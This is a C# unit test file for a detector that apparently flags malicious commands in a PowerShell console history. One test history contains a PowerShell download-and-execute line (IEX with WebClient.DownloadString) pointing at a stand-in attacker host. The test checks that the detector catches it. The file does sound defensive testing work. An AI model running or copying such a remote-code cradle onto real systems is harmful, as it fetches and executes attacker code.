using Afterpatch.Analysis.Detectors.Scripts;
using Afterpatch.Core;
using Xunit;

namespace Afterpatch.Analysis.Tests.Scripts;

public sealed class ScriptDetectorTests
{
    [Fact]
    public void A_malicious_line_of_a_history_is_pointed_to()
    {
        var finding = Assert.Single(Run("whoami\nGet-Date\nIEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\nhostname"));
        Assert.Equal("script.malicious", finding.Detector);
        var evidence = Assert.Single(finding.Evidence);
        Assert.Equal(3, evidence.At.Line);
        Assert.StartsWith("IEX", evidence.Excerpt, StringComparison.Ordinal);
    }

    [Fact]
    public void An_administrators_history_is_quiet() => Assert.Empty(Run("Get-Mailbox\nGet-Date\nRestart-Service W3SVC"));

    private static List<Finding> Run(string history)
    {
        var detector = new ScriptDetector();
        var findings = new List<Finding>();
        detector.Observe(new ScriptSighting { At = new EvidencePointer(@"C:\Users\a\ConsoleHost_history.txt"), Family = "history", Text = history }, findings);
        detector.Complete(findings);
        return findings;
    }
}
